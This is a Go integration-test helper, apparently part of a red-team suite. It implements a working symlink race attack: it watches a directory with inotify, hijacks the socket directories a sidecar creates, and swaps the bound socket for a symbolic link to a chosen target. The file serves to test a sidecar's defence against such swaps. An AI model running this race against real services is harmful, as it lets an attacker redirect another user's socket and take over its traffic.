package integration

import (
	"bytes"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// swapSocketDirMain is `child swap-socket-dir DIR TARGET DURATION`, the attacker of
// TestRedteam4SocketDirSwap, run as the uid that owns DIR: for DURATION it watches DIR (inotify) and, for
// every directory a sidecar creates there to bind its socket in (".hls*"), renames it away and puts a
// directory of its own under that name; when the sidecar's socket "s" appears in it, it replaces the
// socket with a symbolic link to TARGET. It prints how many sockets it replaced.
func swapSocketDirMain(args []string) int {
	dir, target := args[0], args[1]
	d, _ := time.ParseDuration(args[2])
	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC | unix.IN_NONBLOCK)
	if err != nil {
		return 2
	}
	top, err := unix.InotifyAddWatch(fd, dir, unix.IN_CREATE)
	if err != nil {
		return 2
	}
	mine := map[string]bool{}     // the directories it made itself: their events in DIR are its own
	watched := map[int32]string{} // watch -> a directory of its own
	replaced := 0
	buf := make([]byte, 64<<10)
	for deadline := time.Now().Add(d); time.Now().Before(deadline); {
		fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
		if n, _ := unix.Poll(fds, 100); n <= 0 {
			continue
		}
		n, err := unix.Read(fd, buf)
		if err != nil || n <= 0 {
			continue
		}
		for off := 0; off+unix.SizeofInotifyEvent <= n; {
			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
			name := string(bytes.TrimRight(buf[off+unix.SizeofInotifyEvent:off+unix.SizeofInotifyEvent+int(ev.Len)], "\x00"))
			off += unix.SizeofInotifyEvent + int(ev.Len)
			if own, ok := watched[ev.Wd]; ok && name == "s" && ev.Mask&unix.IN_CREATE != 0 {
				// The sidecar bound its socket in a directory of ours: swap the socket for a link.
				p := filepath.Join(own, "s")
				if st, err := os.Lstat(p); err == nil && st.Mode()&os.ModeSocket != 0 && os.Remove(p) == nil && os.Symlink(target, p) == nil {
					replaced++
					println("replaced", p)
				}
				continue
			}
			if ev.Wd != int32(top) || ev.Mask&unix.IN_ISDIR == 0 || !strings.HasPrefix(name, ".hls") || mine[name] {
				continue
			}
			p := filepath.Join(dir, name)
			if os.Rename(p, filepath.Join(dir, ".taken-"+strconv.Itoa(len(mine)))) != nil {
				continue
			}
			mine[name] = true
			if os.Mkdir(p, 0o755) != nil {
				continue
			}
			if wd, err := unix.InotifyAddWatch(fd, p, unix.IN_CREATE); err == nil {
				watched[int32(wd)] = p
			}
		}
	}
	println("replaced", replaced)
	return 0
}
